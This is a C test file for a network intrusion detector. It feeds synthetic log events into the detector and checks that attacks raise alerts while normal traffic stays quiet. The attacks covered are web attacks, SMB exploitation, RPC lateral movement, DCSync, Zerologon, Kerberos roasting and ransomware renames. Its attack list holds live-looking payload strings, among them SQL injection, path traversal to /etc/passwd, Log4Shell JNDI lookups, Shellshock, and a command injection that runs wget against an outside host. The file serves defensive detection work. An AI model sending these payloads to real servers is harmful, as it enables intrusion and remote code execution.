/* Attacks on servers and the spread inside: web, SMB, RPC, Kerberos, shares. */
#include <stdio.h>
#include <string.h>

#include "detect_test.h"
#include "tap.h"

#define PC     "192.168.10.23"
#define SERVER "192.168.10.5"
#define WEB    "198.51.100.7"

static void
web(struct world *w, double at, const char *from, const char *to,
    const char *url, const char *agent, int status)
{
	world_see(w, at,
		  "\"event_type\":\"http\",\"flow_id\":8,\"src_ip\":\"%s\","
		  "\"src_port\":50002,\"dest_ip\":\"%s\",\"dest_port\":80,"
		  "\"proto\":\"TCP\",\"http\":{\"hostname\":\"x.example.jp\","
		  "\"url\":\"%s\",\"http_user_agent\":\"%s\","
		  "\"http_method\":\"GET\",\"status\":%d}",
		  from, to, url, agent, status);
}

static void
web_attacks(void)
{
	static const struct {
		const char *url, *agent;
	} attacks[] = {
		{ "/?id=1%27+UNION/**/SELECT+user%2Cpass+FROM+t--+", "M" },
		{ "/a?x=%253Cscript%253Ealert(1)%253C/script%253E", "M" },
		{ "/..%2f..%2f..%2fetc/passwd", "M" },
		{ "/", "${jndi:ldap://198.51.100.9/a}" },
		{ "/?q=${${lower:j}ndi:rmi://198.51.100.9/a}", "M" },
		{ "/cgi-bin/x", "() { :;}; /bin/bash -c id" },
		{ "/ping?host=127.0.0.1;wget+http://198.51.100.9/m", "M" },
		{ "/index.php?s=/index/think/invokefunction&f=x", "M" },
		{ "/login?u=admin'+or+'1'='1", "M" },
		{ "/boaform/admin/formPing", "M" },
	};
	static const char *const honest[] = {
		"/search?q=select+the+best+union+of+workers",
		"/shop?color=red&size=12&order=price",
		"/image.php?path=2026/03/a.jpg&w=200",
		"/a/../b.css",
		"/news?title=I%27m+fine+or+not",
		"/wiki/JavaScript",
		"/environment/report.html",
		"/api/v1/items?from=10&to=20",
	};
	struct world w;
	size_t i;

	for (i = 0; i < ARRAY_LEN(attacks); i++) {
		world_init(&w);
		web(&w, 1, WEB, SERVER, attacks[i].url, attacks[i].agent, 404);
		tap_ok(world_told(&w, "exploit-web") != NULL &&
			   world_gravest(&w) <= SEVERITY_THIS_WEEK,
		       "an attempt that fails: %s", attacks[i].url);
		world_done(&w);
	}
	world_init(&w);
	for (i = 0; i < ARRAY_LEN(honest); i++)
		web(&w, (double)i, WEB, SERVER, honest[i], "Mozilla/5.0", 200);
	tap_ok(world_quiet(&w), "honest addresses are quiet");
	world_done(&w);
}

static void
web_success(void)
{
	struct world w;
	const struct told *t;

	world_init(&w);
	web(&w, 1, WEB, SERVER, "/", "${jndi:ldap://198.51.100.7/a}", 200);
	world_see(&w, 3,
		  "\"event_type\":\"fileinfo\",\"flow_id\":9,\"src_ip\":\"" WEB
		  "\",\"src_port\":8888,\"dest_ip\":\"" SERVER
		  "\",\"dest_port\":50009,\"proto\":\"TCP\",\"http\":{"
		  "\"hostname\":\"" WEB "\",\"url\":\"/A.class\","
		  "\"http_user_agent\":\"Java/1.8.0_200\",\"http_method\":"
		  "\"GET\",\"status\":200},\"app_proto\":\"http\","
		  "\"fileinfo\":{\"filename\":\"/A.class\",\"magic\":"
		  "\"compiled Java class data, version 52.0\",\"gaps\":false,"
		  "\"state\":\"CLOSED\",\"size\":1300}");
	t = world_told(&w, "exploit-callback");
	tap_ok(t != NULL && t->severity == SEVERITY_NOW &&
		   t->outcome == OUTCOME_SUCCESS,
	       "the attacked server fetches code: it worked");
	tap_text(t != NULL ? t->device : "", SERVER, "told of the server");
	world_done(&w);
}

static void
smb(struct world *w, double at, int flow, const char *command, const char *more)
{
	world_see(w, at,
		  "\"event_type\":\"smb\",\"flow_id\":%d,\"src_ip\":\"" PC
		  "\",\"src_port\":%d,\"dest_ip\":\"" SERVER
		  "\",\"dest_port\":445,\"proto\":\"TCP\",\"smb\":{\"id\":1,"
		  "\"dialect\":\"NT LM 0.12\",\"command\":\"%s\","
		  "\"status\":\"STATUS_SUCCESS\"%s}",
		  flow, 40000 + flow, command, more);
}

static void
eternal_blue(void)
{
	struct scene_flow groom = { .source = PC,
				    .destination = SERVER,
				    .port = 445,
				    .app = "smb",
				    .to_server = 6,
				    .to_client = 4,
				    .bytes_to_server = 4600,
				    .bytes_to_client = 270,
				    .seconds = 1 };
	struct world w;
	const struct told *t;
	int i;

	world_init(&w);
	smb(&w, 1, 7, "SMB1_COMMAND_NT_TRANS", "");
	for (i = 0; i < 15; i++)
		smb(&w, 1.1, 7, "SMB1_COMMAND_TRANS2_SECONDARY", "");
	t = world_told(&w, "exploit-smb");
	tap_ok(t != NULL && t->outcome == OUTCOME_ATTEMPT,
	       "the mixture of commands is an attempt");
	for (i = 0; i < 12; i++)
		scene_flow(&w, 1.2, &groom);
	t = world_told(&w, "exploit-smb");
	tap_ok(t != NULL && t->outcome == OUTCOME_SUCCESS &&
		   t->severity == SEVERITY_NOW,
	       "with the memory filled it has run its course");
	world_done(&w);

	world_init(&w);
	for (i = 0; i < 30; i++)
		smb(&w, 1 + i, 7, "SMB1_COMMAND_TRANS2", "");
	smb(&w, 40, 8, "SMB1_COMMAND_NT_TRANS", "");
	tap_ok(world_told(&w, "exploit-smb") == NULL,
	       "an old copier's SMB1 is no attack");
	world_done(&w);
}

#define RPC(uuid, opnum)                                                       \
	",\"dcerpc\":{\"request\":\"REQUEST\",\"response\":\"RESPONSE\","      \
	"\"opnum\":" #opnum ",\"interfaces\":[{\"uuid\":\"" uuid               \
	"\",\"version\":\"2.0\"}],\"call_id\":1}"

static void
remote_calls(void)
{
	struct world w;
	const struct told *t;
	int i;

	world_init(&w);
	smb(&w, 1, 7, "SMB2_COMMAND_WRITE",
	    RPC("367abb81-9844-35f1-ad32-98f038001003", 15));
	tap_ok(world_quiet(&w), "asking for a service is nothing");
	smb(&w, 2, 7, "SMB2_COMMAND_WRITE",
	    RPC("367abb81-9844-35f1-ad32-98f038001003", 12));
	t = world_told(&w, "lateral-service");
	tap_ok(t != NULL && t->severity == SEVERITY_TODAY &&
		   t->role == ROLE_ACTOR,
	       "a service made on another machine");
	smb(&w, 9, 7, "SMB2_COMMAND_WRITE",
	    RPC("367abb81-9844-35f1-ad32-98f038001003", 2));
	t = world_told(&w, "lateral-service");
	tap_ok(t != NULL && t->severity == SEVERITY_NOW,
	       "and taken away again: an order was run");
	world_done(&w);

	world_init(&w);
	world_see(&w, 1,
		  "\"event_type\":\"dcerpc\",\"flow_id\":12,\"src_ip\":\"" PC
		  "\",\"src_port\":50000,\"dest_ip\":\"" SERVER
		  "\",\"dest_port\":49700,\"proto\":\"TCP\",\"dcerpc\":{"
		  "\"request\":\"BIND\",\"interfaces\":[{\"uuid\":"
		  "\"e3514235-4b06-11d1-ab04-00c04fc2dcd2\",\"version\":"
		  "\"4.0\",\"ack_result\":0}],\"response\":\"BINDACK\","
		  "\"call_id\":1,\"rpc_version\":\"5.0\"}");
	world_see(&w, 2,
		  "\"event_type\":\"dcerpc\",\"flow_id\":12,\"src_ip\":\"" PC
		  "\",\"src_port\":50000,\"dest_ip\":\"" SERVER
		  "\",\"dest_port\":49700,\"proto\":\"TCP\",\"dcerpc\":{"
		  "\"request\":\"REQUEST\",\"req\":{\"opnum\":3,"
		  "\"frag_cnt\":1,\"stub_data_size\":300},\"response\":"
		  "\"RESPONSE\",\"call_id\":2,\"rpc_version\":\"5.0\"}");
	t = world_told(&w, "dcsync");
	tap_ok(t != NULL && t->severity == SEVERITY_NOW,
	       "replication asked for by a PC");
	world_done(&w);

	world_init(&w);
	for (i = 0; i < 3; i++)
		smb(&w, i, 7, "SMB2_COMMAND_WRITE",
		    RPC("12345678-1234-abcd-ef00-01234567cffb", 26));
	tap_ok(world_quiet(&w), "a PC signs in to the domain");
	for (i = 0; i < 30; i++)
		smb(&w, i, 7, "SMB2_COMMAND_WRITE",
		    RPC("12345678-1234-abcd-ef00-01234567cffb", 26));
	t = world_told(&w, "zerologon");
	tap_ok(t != NULL && t->outcome == OUTCOME_ATTEMPT, "thirty tries");
	smb(&w, 40, 7, "SMB2_COMMAND_WRITE",
	    RPC("12345678-1234-abcd-ef00-01234567cffb", 30));
	t = world_told(&w, "zerologon");
	tap_ok(t != NULL && t->outcome == OUTCOME_SUCCESS &&
		   t->severity == SEVERITY_NOW,
	       "and the key is set");
	world_done(&w);
}

/* Each person of the firm looked up; sign-in looks up one or two. */
static void
people_listed(void)
{
	struct world w;
	const struct told *t;
	int i;

	world_init(&w);
	for (i = 0; i < 6; i++)
		smb(&w, i, 7, "SMB2_COMMAND_WRITE",
		    RPC("12345778-1234-abcd-ef00-0123456789ac", 34));
	tap_ok(world_quiet(&w), "a few people looked up");
	for (i = 0; i < 12; i++) {
		smb(&w, 10 + i, 7, "SMB2_COMMAND_WRITE",
		    RPC("12345778-1234-abcd-ef00-0123456789ac", 34));
		smb(&w, 10 + i, 7, "SMB2_COMMAND_WRITE",
		    RPC("12345778-1234-abcd-ef00-0123456789ac", 36));
	}
	t = world_told(&w, "account-listing");
	tap_ok(t != NULL && t->severity == SEVERITY_THIS_WEEK,
	       "one after another: a listing");
	world_done(&w);
}

static void
shared_files(void)
{
	struct world w;
	const struct told *t;
	char more[256];
	int i;

	world_init(&w);
	smb(&w, 1, 7, "SMB2_COMMAND_TREE_CONNECT",
	    ",\"share\":\"\\\\\\\\server\\\\ADMIN$\"");
	smb(&w, 2, 7, "SMB2_COMMAND_CREATE",
	    ",\"filename\":\"Temp\\\\update.exe\",\"disposition\":"
	    "\"FILE_CREATE\"");
	t = world_told(&w, "program-share");
	tap_ok(t != NULL && t->severity == SEVERITY_TODAY,
	       "a program put on an administration share");
	smb(&w, 3, 7, "SMB2_COMMAND_CREATE",
	    ",\"filename\":\"PSEXESVC-PC23-stdin\",\"disposition\":"
	    "\"FILE_OPEN\"");
	tap_ok(world_told(&w, "lateral-pipe") != NULL, "a tool's pipe");
	world_done(&w);

	world_init(&w);
	smb(&w, 1, 7, "SMB2_COMMAND_TREE_CONNECT",
	    ",\"share\":\"\\\\\\\\server\\\\soft\"");
	smb(&w, 2, 7, "SMB2_COMMAND_CREATE",
	    ",\"filename\":\"printer\\\\setup.exe\",\"disposition\":"
	    "\"FILE_CREATE\"");
	smb(&w, 3, 7, "SMB2_COMMAND_CREATE",
	    ",\"filename\":\"srvsvc\",\"disposition\":\"FILE_OPEN\"");
	for (i = 0; i < 60; i++) {
		snprintf(more, sizeof(more),
			 ",\"rename\":{\"from\":\"a%d.docx\",\"to\":"
			 "\"2026\\\\a%d.docx\"}",
			 i, i);
		smb(&w, 4 + i, 7, "SMB2_COMMAND_SET_INFO", more);
	}
	tap_ok(world_quiet(&w), "software on a share and a folder sorted");
	for (i = 0; i < 60; i++) {
		snprintf(more, sizeof(more),
			 ",\"rename\":{\"from\":\"b%d.docx\",\"to\":"
			 "\"b%d.docx.locked\"}",
			 i, i);
		smb(&w, 100 + i, 7, "SMB2_COMMAND_SET_INFO", more);
	}
	tap_ok(world_told(&w, "ransom-files") != NULL,
	       "sixty files get one new ending");
	world_done(&w);
}

static void
ticket(struct world *w, double at, const char *message, const char *user,
       const char *service, bool weak, bool ticket_weak)
{
	world_see(w, at,
		  "\"event_type\":\"krb5\",\"flow_id\":6,\"src_ip\":\"" PC
		  "\",\"src_port\":50003,\"dest_ip\":\"" SERVER
		  "\",\"dest_port\":88,\"proto\":\"TCP\",\"krb5\":{"
		  "\"msg_type\":\"%s\",\"cname\":\"%s\",\"realm\":\"X\","
		  "\"sname\":\"%s\",\"encryption\":\"%s\","
		  "\"weak_encryption\":%s,\"ticket_encryption\":\"%s\","
		  "\"ticket_weak_encryption\":%s}",
		  message, user, service, weak ? "rc4-hmac" : "aes256",
		  weak ? "true" : "false", ticket_weak ? "rc4-hmac" : "aes256",
		  ticket_weak ? "true" : "false");
}

static void
tickets(void)
{
	struct world w;
	const struct told *t;
	char service[64];
	int i;

	world_init(&w);
	for (i = 0; i < 5; i++) {
		snprintf(service, sizeof(service), "MSSQLSvc/db%d", i);
		ticket(&w, i, "KRB_TGS_REP", "taro", service, false, true);
	}
	t = world_told(&w, "kerberoast");
	tap_ok(t != NULL && t->severity == SEVERITY_TODAY,
	       "weak tickets for five services");
	world_done(&w);
	world_init(&w);
	ticket(&w, 1, "KRB_AS_REP", "taro", "krbtgt/X", true, false);
	tap_ok(world_told(&w, "pass-the-hash") != NULL,
	       "the old encryption where the domain has the new");
	ticket(&w, 2, "KRB_AS_REP", "jiro", "krbtgt/X", true, false);
	tap_ok(world_told(&w, "asrep-roast") != NULL, "for one user more");
	world_done(&w);
	world_init(&w);
	ticket(&w, 1, "KRB_AS_REP", "taro", "krbtgt/X", false, false);
	ticket(&w, 2, "KRB_TGS_REP", "taro", "cifs/server", false, false);
	ticket(&w, 3, "KRB_AS_REP", "copier", "krbtgt/Y", true, true);
	tap_ok(world_quiet(&w), "a working day, and a domain with only RC4");
	world_done(&w);
}

int
main(void)
{
	web_attacks();
	web_success();
	eternal_blue();
	remote_calls();
	people_listed();
	shared_files();
	tickets();
	return tap_done();
}
